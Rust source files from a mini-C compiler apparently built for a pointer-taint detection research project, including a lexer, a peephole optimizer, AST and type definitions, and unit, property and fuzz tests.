        ("int main() { 5 = 6; return 0; }", "not an lvalue"),
        (
            "int f(int a); int main() { return f(1, 2); }",
            "wrong number of arguments",
        ),
        ("int main() { int x; return x.y; }", "`.` on non-struct"),
        (
            "int main() { int x; return *x; }",
            "dereference non-pointer",
        ),
        (
            "struct s { int a; }; int main() { struct s v; return v.b; }",
            "no field",
        ),
        ("int main() { break; }", "outside a loop"),
        ("int main() { continue; }", "outside a loop"),
        ("int x; int x;", "duplicate global"),
        ("int main() { struct nope n; return 0; }", "unknown struct"),
    ] {
        let err = ptaint_cc::compile(src).expect_err(src);
        assert!(
            err.msg.contains(needle),
            "expected `{needle}` in error for {src}, got: {err}"
        );
    }
}

#[test]
fn do_while_and_complex_conditions() {
    assert_eq!(
        ret("int main() {
                int i = 0; int found = 0;
                int a[10];
                for (i = 0; i < 10; i++) a[i] = i * 3;
                i = 0;
                while (i < 10 && !found) {
                    if (a[i] == 15) found = i;
                    i++;
                }
                return found;
             }"),
        5
    );
}

#[test]
fn globals_of_pointer_type() {
    assert_eq!(
        ret(r#"char *cgi_root = "/usr/local/httpd/cgi-bin";
               int main() { return cgi_root[0]; }"#),
        b'/' as i32
    );
}

#[test]
fn function_pointer_arrays() {
    assert_eq!(
        ret("int inc(int x) { return x + 1; }
             int dbl(int x) { return 2 * x; }
             int (*table[2])(int);
             int main() {
                int (*local[2])(int);
                table[0] = inc;
                table[1] = dbl;
                local[0] = dbl;
                local[1] = inc;
                return table[0](10) + table[1](10) + local[0](3) + local[1](3);
             }"),
        11 + 20 + 6 + 4
    );
}
