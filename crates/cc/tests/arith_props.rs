//! Property test: the compiler agrees with a reference evaluator on
//! randomly generated arithmetic expression trees.

use proptest::prelude::*;
use ptaint_cpu::{Cpu, DetectionPolicy, StepEvent};
use ptaint_isa::{Reg, STACK_TOP};
use ptaint_mem::{MemorySystem, WordTaint};

/// A little expression AST we can both print as C and evaluate with Rust's
/// wrapping semantics (which match the guest CPU's).
#[derive(Debug, Clone)]
enum E {
    Lit(i32),
    Add(Box<E>, Box<E>),
    Sub(Box<E>, Box<E>),
    Mul(Box<E>, Box<E>),
    And(Box<E>, Box<E>),
    Or(Box<E>, Box<E>),
    Xor(Box<E>, Box<E>),
    Shl(Box<E>, u8),
    Shr(Box<E>, u8),
    Neg(Box<E>),
    Not(Box<E>),
}

impl E {
    fn eval(&self) -> i32 {
        match self {
            E::Lit(v) => *v,
            E::Add(a, b) => a.eval().wrapping_add(b.eval()),
            E::Sub(a, b) => a.eval().wrapping_sub(b.eval()),
            E::Mul(a, b) => a.eval().wrapping_mul(b.eval()),
            E::And(a, b) => a.eval() & b.eval(),
            E::Or(a, b) => a.eval() | b.eval(),
            E::Xor(a, b) => a.eval() ^ b.eval(),
            E::Shl(a, s) => a.eval().wrapping_shl(u32::from(*s)),
            E::Shr(a, s) => a.eval().wrapping_shr(u32::from(*s)),
            E::Neg(a) => a.eval().wrapping_neg(),
            E::Not(a) => !a.eval(),
        }
    }

    fn to_c(&self) -> String {
        match self {
            E::Lit(v) => {
                if *v < 0 {
                    // Avoid INT_MIN literal issues: emit via hex cast.
                    format!("((int)0x{:x})", *v as u32)
                } else {
                    v.to_string()
                }
            }
            E::Add(a, b) => format!("({} + {})", a.to_c(), b.to_c()),
            E::Sub(a, b) => format!("({} - {})", a.to_c(), b.to_c()),
            E::Mul(a, b) => format!("({} * {})", a.to_c(), b.to_c()),
            E::And(a, b) => format!("({} & {})", a.to_c(), b.to_c()),
            E::Or(a, b) => format!("({} | {})", a.to_c(), b.to_c()),
            E::Xor(a, b) => format!("({} ^ {})", a.to_c(), b.to_c()),
            E::Shl(a, s) => format!("({} << {s})", a.to_c()),
            E::Shr(a, s) => format!("({} >> {s})", a.to_c()),
            E::Neg(a) => format!("(-{})", a.to_c()),
            E::Not(a) => format!("(~{})", a.to_c()),
        }
    }
}

fn arb_expr() -> impl Strategy<Value = E> {
    let leaf = (-1000i32..1000).prop_map(E::Lit);
    leaf.prop_recursive(4, 24, 2, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::Add(Box::new(a), Box::new(b))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::Sub(Box::new(a), Box::new(b))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::Mul(Box::new(a), Box::new(b))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::And(Box::new(a), Box::new(b))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::Or(Box::new(a), Box::new(b))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| E::Xor(Box::new(a), Box::new(b))),
            (inner.clone(), 0u8..31).prop_map(|(a, s)| E::Shl(Box::new(a), s)),
            (inner.clone(), 0u8..31).prop_map(|(a, s)| E::Shr(Box::new(a), s)),
            inner.clone().prop_map(|a| E::Neg(Box::new(a))),
            inner.prop_map(|a| E::Not(Box::new(a))),
        ]
    })
}

fn run_main_returning(src: &str) -> i32 {
    let asm = ptaint_cc::compile(src).expect("compiles");
    let full = format!("{asm}\n_start:\n  addiu $sp, $sp, -16\n  jal main\n  break 0\n");
    let image = ptaint_asm::assemble(&full).expect("assembles");
    let mut mem = MemorySystem::flat();
    for (i, &w) in image.text.iter().enumerate() {
        mem.write_u32(image.text_base + 4 * i as u32, w, WordTaint::CLEAN)
            .unwrap();
    }
    mem.write_bytes(image.data_base, &image.data, false)
        .unwrap();
    let mut cpu = Cpu::new(mem, DetectionPolicy::PointerTaintedness);
    cpu.set_pc(image.entry);
    cpu.regs_mut()
        .set(Reg::SP, STACK_TOP - 64, WordTaint::CLEAN);
    for _ in 0..2_000_000 {
        if let StepEvent::BreakTrap(_) = cpu.step().expect("no faults") {
            return cpu.regs().value(Reg::V0) as i32;
        }
    }
    panic!("did not terminate");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Compiled expression == reference evaluation.
    #[test]
    fn compiled_expressions_match_reference(e in arb_expr()) {
        let src = format!("int main() {{ return {}; }}", e.to_c());
        prop_assert_eq!(run_main_returning(&src), e.eval(), "{}", src);
    }

    /// The same expression computed through a local variable chain agrees.
    #[test]
    fn expressions_survive_variable_round_trips(e in arb_expr()) {
        let src = format!(
            "int main() {{ int x; int *p; x = {}; p = &x; return *p; }}",
            e.to_c()
        );
        prop_assert_eq!(run_main_returning(&src), e.eval(), "{}", src);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Fuzz: the lexer and parser never panic on arbitrary input — they
    /// either produce a program or a located error.
    #[test]
    fn frontend_is_panic_free(input in "\\PC{0,200}") {
        if let Ok(tokens) = ptaint_cc::lex(&input) {
            let _ = ptaint_cc::parse(&tokens);
        }
    }

    /// Fuzz with C-shaped fragments: higher parse success rate, still no
    /// panics, and whatever compiles must also assemble.
    #[test]
    fn c_shaped_fuzz(body in "[a-z0-9+\\-*/%&|^<>=!~;(){}\\[\\] ]{0,80}") {
        let src = format!("int main() {{ {body} }}");
        if let Ok(asm) = ptaint_cc::compile(&src) {
            let full = format!("{asm}\n_start:\n  jal main\n  break 0\n");
            ptaint_asm::assemble(&full).expect("compiler output must assemble");
        }
    }
}
