//! The mini-C lexer.

use crate::CcError;

/// A lexical token with its 1-based source line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What was lexed.
    pub kind: TokenKind,
    /// 1-based line number.
    pub line: u32,
}

/// Token kinds. Punctuators carry their exact spelling as separate variants
/// so the parser can match on them cheaply.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// Identifier or keyword (keywords are distinguished by the parser).
    Ident(String),
    /// Integer literal (decimal, hex, or char literal).
    Int(i64),
    /// String literal with escapes already decoded.
    Str(Vec<u8>),

    // Punctuation, in rough precedence order.
    /// `(`
    LParen,
    /// `)`
    RParen,
    /// `{`
    LBrace,
    /// `}`
    RBrace,
    /// `[`
    LBracket,
    /// `]`
    RBracket,
    /// `;`
    Semi,
    /// `,`
    Comma,
    /// `...`
    Ellipsis,
    /// `.`
    Dot,
    /// `->`
    Arrow,
    /// `++`
    PlusPlus,
    /// `--`
    MinusMinus,
    /// `+`
    Plus,
    /// `-`
    Minus,
    /// `*`
    Star,
    /// `/`
    Slash,
    /// `%`
    Percent,
    /// `!`
    Bang,
    /// `~`
    Tilde,
    /// `&`
    Amp,
    /// `|`
    Pipe,
    /// `^`
    Caret,
    /// `<<`
    Shl,
    /// `>>`
    Shr,
    /// `<`
    Lt,
    /// `>`
    Gt,
    /// `<=`
    Le,
    /// `>=`
    Ge,
    /// `==`
    EqEq,
    /// `!=`
    NotEq,
    /// `&&`
    AndAnd,
    /// `||`
    OrOr,
    /// `?`
    Question,
    /// `:`
    Colon,
    /// `=`
    Eq,
    /// `+=`
    PlusEq,
    /// `-=`
    MinusEq,
    /// `*=`
    StarEq,
    /// `/=`
    SlashEq,
    /// `%=`
    PercentEq,
    /// `&=`
    AmpEq,
    /// `|=`
    PipeEq,
    /// `^=`
    CaretEq,
    /// `<<=`
    ShlEq,
    /// `>>=`
    ShrEq,
    /// End of input sentinel.
    Eof,
}

/// Lexes mini-C source into tokens (with a trailing [`TokenKind::Eof`]).
///
/// # Errors
///
/// Returns a [`CcError`] for unterminated literals/comments and unknown
/// characters.
pub fn lex(source: &str) -> Result<Vec<Token>, CcError> {
    let bytes = source.as_bytes();
    let mut tokens = Vec::new();
    let mut i = 0usize;
    let mut line = 1u32;

    macro_rules! push {
        ($kind:expr) => {
            tokens.push(Token { kind: $kind, line })
        };
    }

    while i < bytes.len() {
        let c = bytes[i];
        match c {
            b'\n' => {
                line += 1;
                i += 1;
            }
            b' ' | b'\t' | b'\r' => i += 1,
            b'/' if bytes.get(i + 1) == Some(&b'/') => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if bytes.get(i + 1) == Some(&b'*') => {
                let start_line = line;
                i += 2;
                loop {
                    if i + 1 >= bytes.len() {
                        return Err(CcError::new(start_line, "unterminated block comment"));
                    }
                    if bytes[i] == b'\n' {
                        line += 1;
                    }
                    if bytes[i] == b'*' && bytes[i + 1] == b'/' {
                        i += 2;
                        break;
                    }
                    i += 1;
                }
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' => {
                let start = i;
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
                    i += 1;
                }
                push!(TokenKind::Ident(source[start..i].to_owned()));
            }
            b'0'..=b'9' => {
                let start = i;
                let hex = c == b'0' && matches!(bytes.get(i + 1), Some(b'x' | b'X'));
                if hex {
                    i += 2;
                    while i < bytes.len() && bytes[i].is_ascii_hexdigit() {
                        i += 1;
                    }
                    let v = i64::from_str_radix(&source[start + 2..i], 16)
                        .map_err(|_| CcError::new(line, "hex literal out of range"))?;
                    push!(TokenKind::Int(v));
                } else {
                    while i < bytes.len() && bytes[i].is_ascii_digit() {
                        i += 1;
                    }
                    let v: i64 = source[start..i]
                        .parse()
                        .map_err(|_| CcError::new(line, "integer literal out of range"))?;
                    push!(TokenKind::Int(v));
                }
            }
            b'\'' => {
                let (value, next) = lex_char(bytes, i + 1, line)?;
                push!(TokenKind::Int(i64::from(value)));
                i = next;
            }
            b'"' => {
                let (s, next, lines) = lex_string(bytes, i + 1, line)?;
                push!(TokenKind::Str(s));
                line += lines;
                i = next;
            }
            _ => {
                let (kind, len) = lex_punct(bytes, i).ok_or_else(|| {
                    CcError::new(line, format!("unexpected character `{}`", c as char))
                })?;
                push!(kind);
                i += len;
            }
        }
    }
    tokens.push(Token {
        kind: TokenKind::Eof,
        line,
    });
    Ok(tokens)
}

fn lex_escape(bytes: &[u8], i: usize, line: u32) -> Result<(u8, usize), CcError> {
    let err = || CcError::new(line, "bad escape sequence");
    let c = *bytes.get(i).ok_or_else(err)?;
    Ok(match c {
        b'n' => (b'\n', i + 1),
        b't' => (b'\t', i + 1),
        b'r' => (b'\r', i + 1),
        b'0' => (0, i + 1),
        b'\\' => (b'\\', i + 1),
        b'\'' => (b'\'', i + 1),
        b'"' => (b'"', i + 1),
        b'x' => {
            let hi = *bytes.get(i + 1).ok_or_else(err)?;
            let lo = *bytes.get(i + 2).ok_or_else(err)?;
            let s = [hi, lo];
            let s = std::str::from_utf8(&s).map_err(|_| err())?;
            (u8::from_str_radix(s, 16).map_err(|_| err())?, i + 3)
        }
        _ => return Err(err()),
    })
}

fn lex_char(bytes: &[u8], i: usize, line: u32) -> Result<(u8, usize), CcError> {
    let err = || CcError::new(line, "unterminated char literal");
    let c = *bytes.get(i).ok_or_else(err)?;
    let (value, next) = if c == b'\\' {
        lex_escape(bytes, i + 1, line)?
    } else {
        (c, i + 1)
    };
    if bytes.get(next) != Some(&b'\'') {
        return Err(err());
    }
    Ok((value, next + 1))
}

fn lex_string(bytes: &[u8], mut i: usize, line: u32) -> Result<(Vec<u8>, usize, u32), CcError> {
    let mut out = Vec::new();
    let mut lines = 0u32;
    loop {
        let c = *bytes
            .get(i)
            .ok_or_else(|| CcError::new(line, "unterminated string literal"))?;
        match c {
            b'"' => return Ok((out, i + 1, lines)),
            b'\\' => {
                let (v, next) = lex_escape(bytes, i + 1, line)?;
                out.push(v);
                i = next;
            }
            b'\n' => {
                lines += 1;
                out.push(c);
                i += 1;
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
}

fn lex_punct(bytes: &[u8], i: usize) -> Option<(TokenKind, usize)> {
    use TokenKind::*;
    let b = |k: usize| bytes.get(i + k).copied();
    // Three-character tokens first.
    if b(0) == Some(b'.') && b(1) == Some(b'.') && b(2) == Some(b'.') {
        return Some((Ellipsis, 3));
    }
    if b(0) == Some(b'<') && b(1) == Some(b'<') && b(2) == Some(b'=') {
        return Some((ShlEq, 3));
    }
    if b(0) == Some(b'>') && b(1) == Some(b'>') && b(2) == Some(b'=') {
        return Some((ShrEq, 3));
    }
    let two = match (b(0)?, b(1)) {
        (b'-', Some(b'>')) => Some(Arrow),
        (b'+', Some(b'+')) => Some(PlusPlus),
        (b'-', Some(b'-')) => Some(MinusMinus),
        (b'<', Some(b'<')) => Some(Shl),
        (b'>', Some(b'>')) => Some(Shr),
        (b'<', Some(b'=')) => Some(Le),
        (b'>', Some(b'=')) => Some(Ge),
        (b'=', Some(b'=')) => Some(EqEq),
        (b'!', Some(b'=')) => Some(NotEq),
        (b'&', Some(b'&')) => Some(AndAnd),
        (b'|', Some(b'|')) => Some(OrOr),
        (b'+', Some(b'=')) => Some(PlusEq),
        (b'-', Some(b'=')) => Some(MinusEq),
        (b'*', Some(b'=')) => Some(StarEq),
        (b'/', Some(b'=')) => Some(SlashEq),
        (b'%', Some(b'=')) => Some(PercentEq),
        (b'&', Some(b'=')) => Some(AmpEq),
        (b'|', Some(b'=')) => Some(PipeEq),
        (b'^', Some(b'=')) => Some(CaretEq),
        _ => None,
    };
    if let Some(kind) = two {
        return Some((kind, 2));
    }
    let one = match b(0)? {
        b'(' => LParen,
        b')' => RParen,
        b'{' => LBrace,
        b'}' => RBrace,
        b'[' => LBracket,
        b']' => RBracket,
        b';' => Semi,
        b',' => Comma,
        b'.' => Dot,
        b'+' => Plus,
        b'-' => Minus,
        b'*' => Star,
        b'/' => Slash,
        b'%' => Percent,
        b'!' => Bang,
        b'~' => Tilde,
        b'&' => Amp,
        b'|' => Pipe,
        b'^' => Caret,
        b'<' => Lt,
        b'>' => Gt,
        b'?' => Question,
        b':' => Colon,
        b'=' => Eq,
        _ => return None,
    };
    Some((one, 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        lex(src).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn identifiers_and_integers() {
        assert_eq!(
            kinds("foo _bar x1 42 0x1f"),
            vec![
                TokenKind::Ident("foo".into()),
                TokenKind::Ident("_bar".into()),
                TokenKind::Ident("x1".into()),
                TokenKind::Int(42),
                TokenKind::Int(0x1f),
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn char_and_string_literals() {
        assert_eq!(
            kinds(r#"'a' '\n' '\x41' "hi\n\0""#),
            vec![
                TokenKind::Int(97),
                TokenKind::Int(10),
                TokenKind::Int(0x41),
                TokenKind::Str(vec![b'h', b'i', b'\n', 0]),
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn operators_longest_match() {
        assert_eq!(
            kinds("a <<= b >> c <= d < e"),
            vec![
                TokenKind::Ident("a".into()),
                TokenKind::ShlEq,
                TokenKind::Ident("b".into()),
                TokenKind::Shr,
                TokenKind::Ident("c".into()),
                TokenKind::Le,
                TokenKind::Ident("d".into()),
                TokenKind::Lt,
                TokenKind::Ident("e".into()),
                TokenKind::Eof
            ]
        );
        assert_eq!(
            kinds("p->x ... a.b ++i --j"),
            vec![
                TokenKind::Ident("p".into()),
                TokenKind::Arrow,
                TokenKind::Ident("x".into()),
                TokenKind::Ellipsis,
                TokenKind::Ident("a".into()),
                TokenKind::Dot,
                TokenKind::Ident("b".into()),
                TokenKind::PlusPlus,
                TokenKind::Ident("i".into()),
                TokenKind::MinusMinus,
                TokenKind::Ident("j".into()),
                TokenKind::Eof
            ]
        );
    }

    #[test]
    fn comments_are_skipped_and_lines_tracked() {
        let toks = lex("a // comment\nb /* multi\nline */ c").unwrap();
        assert_eq!(toks[0].line, 1);
        assert_eq!(toks[1].line, 2);
        assert_eq!(toks[2].line, 3);
    }

    #[test]
    fn errors() {
        assert!(lex("'a").is_err());
        assert!(lex("\"abc").is_err());
        assert!(lex("/* nope").is_err());
        assert!(lex("@").is_err());
        assert!(lex(r"'\q'").is_err());
    }

    #[test]
    fn compound_assignment_tokens() {
        assert_eq!(
            kinds("x += 1; y %= 2; z &= 3;")
                .into_iter()
                .filter(|k| matches!(
                    k,
                    TokenKind::PlusEq | TokenKind::PercentEq | TokenKind::AmpEq
                ))
                .count(),
            3
        );
    }
}
