//! A peephole optimizer over the generated assembly.
//!
//! The code generator is a straightforward accumulator machine that spills
//! the left operand of every binary operation to the expression stack. Most
//! right operands are trivial (a constant, a symbol address, a local slot
//! address), making the spill/reload pair redundant. This pass rewrites
//! those windows:
//!
//! ```text
//! addiu $sp, $sp, -4          move $t1, $v0
//! sw $v0, 0($sp)        ==>   <X lines unchanged>
//! <X: trivial $v0 setup>
//! lw $t1, 0($sp)
//! addiu $sp, $sp, 4
//! ```
//!
//! plus two cleanups: branches to the immediately following label are
//! dropped, and `addiu $r, $r, 0` no-ops are removed.
//!
//! The pass is **optional** (`compile_optimized`): attack-payload
//! calibration depends on exact frame/stack geometry, so the paper's
//! experiments run unoptimized code, while the optimizer's correctness is
//! pinned by running the full compiler test battery in both modes and by a
//! differential property test.

/// Returns `true` when `line` is an instruction (not a label/directive).
fn is_instruction(line: &str) -> bool {
    let t = line.trim_start();
    !t.is_empty() && !t.starts_with('.') && !t.starts_with('#') && !line.trim_end().ends_with(':')
}

/// Whether `line` is a "trivial $v0 setup": writes only `$v0`, reads
/// nothing the spill window cares about (`$t1`, `$sp`, memory).
fn is_trivial_v0_setup(line: &str) -> bool {
    let t = line.trim();
    // li $v0, imm  |  la $v0, sym  |  lui $v0, imm
    if t.starts_with("li $v0,") || t.starts_with("la $v0,") || t.starts_with("lui $v0,") {
        return true;
    }
    // ori $v0, $v0, imm (the second half of la/li expansions)
    if t.starts_with("ori $v0, $v0,") {
        return true;
    }
    // addiu $v0, $fp, off (address of a local)
    if t.starts_with("addiu $v0, $fp,") {
        return true;
    }
    false
}

/// One rewriting sweep; returns `true` if anything changed.
fn sweep(lines: &mut Vec<String>) -> bool {
    let mut changed = false;

    // Rule A: spill/reload elimination around trivial setups.
    let mut i = 0;
    while i + 4 < lines.len() {
        let window_ok =
            lines[i].trim() == "addiu $sp, $sp, -4" && lines[i + 1].trim() == "sw $v0, 0($sp)";
        if window_ok {
            // Find the reload after at most 3 trivial setup lines.
            let mut j = i + 2;
            let mut trivial = true;
            while j < lines.len()
                && is_instruction(&lines[j])
                && lines[j].trim() != "lw $t1, 0($sp)"
            {
                if !is_trivial_v0_setup(&lines[j]) || j - (i + 2) >= 3 {
                    trivial = false;
                    break;
                }
                j += 1;
            }
            let reload_ok = trivial
                && j + 1 < lines.len()
                && lines[j].trim() == "lw $t1, 0($sp)"
                && lines[j + 1].trim() == "addiu $sp, $sp, 4";
            if reload_ok {
                // Rewrite: move $t1, $v0 ; <setups> — drop the other four.
                let setups: Vec<String> = lines[i + 2..j].to_vec();
                let mut replacement = vec!["        move $t1, $v0".to_owned()];
                replacement.extend(setups);
                lines.splice(i..=j + 1, replacement);
                changed = true;
                continue; // re-examine from the same index
            }
        }
        i += 1;
    }

    // Rule B: `b label` falling through to `label:`.
    let mut i = 0;
    while i + 1 < lines.len() {
        let t = lines[i].trim().to_owned();
        if let Some(target) = t.strip_prefix("b ") {
            let next = lines[i + 1].trim();
            if next == format!("{target}:") {
                lines.remove(i);
                changed = true;
                continue;
            }
        }
        i += 1;
    }

    // Rule C: `addiu $r, $r, 0` (and `addiu $sp, $sp, -0`) no-ops.
    let before = lines.len();
    lines.retain(|l| {
        let t = l.trim();
        if let Some(rest) = t.strip_prefix("addiu ") {
            let parts: Vec<&str> = rest.split(',').map(str::trim).collect();
            if parts.len() == 3 && parts[0] == parts[1] && matches!(parts[2], "0" | "-0") {
                return false;
            }
        }
        true
    });
    changed |= lines.len() != before;

    changed
}

/// Optimizes assembly text produced by [`compile_program`]
/// (semantics-preserving; see the module docs for the rewrite rules).
///
/// [`compile_program`]: crate::compile_program
#[must_use]
pub fn optimize_asm(asm: &str) -> String {
    let mut lines: Vec<String> = asm.lines().map(str::to_owned).collect();
    while sweep(&mut lines) {}
    let mut out = lines.join("\n");
    out.push('\n');
    out
}

/// Compiles mini-C and runs the peephole optimizer over the result.
///
/// # Errors
///
/// Same as [`compile`](crate::compile).
pub fn compile_optimized(source: &str) -> Result<String, crate::CcError> {
    Ok(optimize_asm(&crate::compile(source)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spill_window_is_rewritten() {
        let asm = "\
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
        li $v0, 5
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
        addu $v0, $t1, $v0
";
        let opt = optimize_asm(asm);
        assert!(opt.contains("move $t1, $v0"), "{opt}");
        assert!(!opt.contains("sw $v0, 0($sp)"), "{opt}");
        assert!(opt.contains("li $v0, 5"), "{opt}");
        assert!(opt.contains("addu $v0, $t1, $v0"), "{opt}");
        assert_eq!(opt.lines().count(), 3);
    }

    #[test]
    fn spill_window_with_two_setup_lines() {
        let asm = "\
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
        lui $v0, 0x1000
        ori $v0, $v0, 0x10
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
";
        let opt = optimize_asm(asm);
        assert_eq!(opt.lines().count(), 3, "{opt}");
        assert!(opt.starts_with("        move $t1, $v0"));
    }

    #[test]
    fn non_trivial_setups_are_left_alone() {
        // A load in the middle may alias the spill slot: untouched.
        let asm = "\
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
        lw $v0, 4($fp)
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
";
        assert_eq!(optimize_asm(asm).trim_end(), asm.trim_end());
    }

    #[test]
    fn fallthrough_branches_are_dropped() {
        let asm = "\
        beq $v0, $zero, _L1_else
        li $v0, 1
        b _L2_end
_L2_end:
        nop
";
        let opt = optimize_asm(asm);
        assert!(!opt.contains("b _L2_end"), "{opt}");
        assert!(opt.contains("_L2_end:"), "{opt}");
    }

    #[test]
    fn noop_addiu_removed() {
        let asm =
            "        addiu $sp, $sp, 0\n        addiu $v0, $v0, 0\n        addiu $v0, $t1, 0\n";
        let opt = optimize_asm(asm);
        assert_eq!(opt.trim(), "addiu $v0, $t1, 0");
    }

    #[test]
    fn labels_block_the_spill_window() {
        // A label between spill and reload means the reload may be reached
        // from elsewhere: untouched.
        let asm = "\
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
somewhere:
        li $v0, 5
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
";
        assert_eq!(optimize_asm(asm).trim_end(), asm.trim_end());
    }

    #[test]
    fn fixpoint_handles_nested_windows() {
        // Two windows back to back both collapse.
        let asm = "\
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
        li $v0, 1
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
        addu $v0, $t1, $v0
        addiu $sp, $sp, -4
        sw $v0, 0($sp)
        li $v0, 2
        lw $t1, 0($sp)
        addiu $sp, $sp, 4
        addu $v0, $t1, $v0
";
        let opt = optimize_asm(asm);
        assert_eq!(opt.matches("move $t1, $v0").count(), 2, "{opt}");
        assert_eq!(opt.lines().count(), 6, "{opt}");
    }
}
