//! Abstract syntax tree and the mini-C type system.

use std::collections::HashMap;

/// A mini-C type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Type {
    /// `void` — only as a return type or behind a pointer.
    Void,
    /// 32-bit signed integer.
    Int,
    /// 32-bit unsigned integer.
    Uint,
    /// 8-bit signed character.
    Char,
    /// Pointer to another type.
    Ptr(Box<Type>),
    /// Fixed-size array (locals and globals only; decays to a pointer).
    Array(Box<Type>, u32),
    /// A named struct declared at file scope.
    Struct(String),
    /// A function signature (used behind pointers and for prototypes).
    Func {
        /// Return type.
        ret: Box<Type>,
        /// Parameter types.
        params: Vec<Type>,
        /// Whether the function accepts extra `...` arguments.
        variadic: bool,
    },
}

impl Type {
    /// A pointer to this type.
    #[must_use]
    pub fn ptr(self) -> Type {
        Type::Ptr(Box::new(self))
    }

    /// Whether the type is a pointer (or array, which decays).
    #[must_use]
    pub fn is_pointer_like(&self) -> bool {
        matches!(self, Type::Ptr(_) | Type::Array(..))
    }

    /// The pointee/element type of a pointer or array.
    #[must_use]
    pub fn pointee(&self) -> Option<&Type> {
        match self {
            Type::Ptr(t) | Type::Array(t, _) => Some(t),
            _ => None,
        }
    }

    /// Whether arithmetic on this type is unsigned (pointers compare
    /// unsigned).
    #[must_use]
    pub fn is_unsigned(&self) -> bool {
        matches!(self, Type::Uint | Type::Ptr(_) | Type::Array(..))
    }

    /// Size in bytes; struct sizes require the program's struct table.
    ///
    /// # Panics
    ///
    /// Panics on `void`, functions, and unknown structs — sizes of those are
    /// rejected during semantic analysis before this is called.
    #[must_use]
    pub fn size_of(&self, structs: &HashMap<String, StructDef>) -> u32 {
        match self {
            Type::Void => panic!("void has no size"),
            Type::Int | Type::Uint | Type::Ptr(_) => 4,
            Type::Char => 1,
            Type::Array(elem, n) => elem.size_of(structs) * n,
            Type::Struct(name) => {
                structs
                    .get(name)
                    .unwrap_or_else(|| panic!("unknown struct `{name}`"))
                    .size
            }
            Type::Func { .. } => panic!("functions have no size"),
        }
    }

    /// Alignment in bytes.
    #[must_use]
    pub fn align_of(&self, structs: &HashMap<String, StructDef>) -> u32 {
        match self {
            Type::Char => 1,
            Type::Array(elem, _) => elem.align_of(structs),
            Type::Struct(name) => structs.get(name).map_or(4, |s| s.align),
            _ => 4,
        }
    }
}

/// A struct definition with a computed layout.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StructDef {
    /// Field name → (offset, type), in declaration order inside `fields`.
    pub fields: Vec<(String, u32, Type)>,
    /// Total size (padded to alignment).
    pub size: u32,
    /// Alignment.
    pub align: u32,
}

impl StructDef {
    /// Looks up a field by name.
    #[must_use]
    pub fn field(&self, name: &str) -> Option<(u32, &Type)> {
        self.fields
            .iter()
            .find(|(n, _, _)| n == name)
            .map(|(_, off, ty)| (*off, ty))
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnOp {
    /// `-e`
    Neg,
    /// `!e`
    Not,
    /// `~e`
    BitNot,
    /// `*e`
    Deref,
    /// `&e`
    Addr,
}

/// Binary operators (also used as the op of compound assignments).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinOp {
    /// `+`
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/`
    Div,
    /// `%`
    Rem,
    /// `&`
    And,
    /// `|`
    Or,
    /// `^`
    Xor,
    /// `<<`
    Shl,
    /// `>>`
    Shr,
    /// `==`
    Eq,
    /// `!=`
    Ne,
    /// `<`
    Lt,
    /// `<=`
    Le,
    /// `>`
    Gt,
    /// `>=`
    Ge,
    /// `&&` (short-circuit)
    LogAnd,
    /// `||` (short-circuit)
    LogOr,
}

/// An expression with its source line.
#[derive(Debug, Clone, PartialEq)]
pub struct Expr {
    /// The expression.
    pub kind: ExprKind,
    /// 1-based source line, for diagnostics.
    pub line: u32,
}

/// Expression kinds.
#[derive(Debug, Clone, PartialEq)]
pub enum ExprKind {
    /// Integer literal.
    Int(i64),
    /// String literal (type `char*`, stored in `.data`).
    Str(Vec<u8>),
    /// Variable or function reference.
    Ident(String),
    /// Unary operation.
    Unary(UnOp, Box<Expr>),
    /// Prefix `++e` / `--e` (the `bool` is "increment").
    PreIncDec(bool, Box<Expr>),
    /// Postfix `e++` / `e--`.
    PostIncDec(bool, Box<Expr>),
    /// Binary operation.
    Binary(BinOp, Box<Expr>, Box<Expr>),
    /// Assignment; `Some(op)` for compound forms like `+=`.
    Assign(Option<BinOp>, Box<Expr>, Box<Expr>),
    /// `cond ? a : b`.
    Ternary(Box<Expr>, Box<Expr>, Box<Expr>),
    /// Call through a name or a function-pointer expression.
    Call(Box<Expr>, Vec<Expr>),
    /// `base[index]`.
    Index(Box<Expr>, Box<Expr>),
    /// `base.field` (`arrow == false`) or `base->field` (`arrow == true`).
    Member {
        /// The aggregate (or pointer to it).
        base: Box<Expr>,
        /// Field name.
        field: String,
        /// Whether `->` was used.
        arrow: bool,
    },
    /// `(T)e`.
    Cast(Type, Box<Expr>),
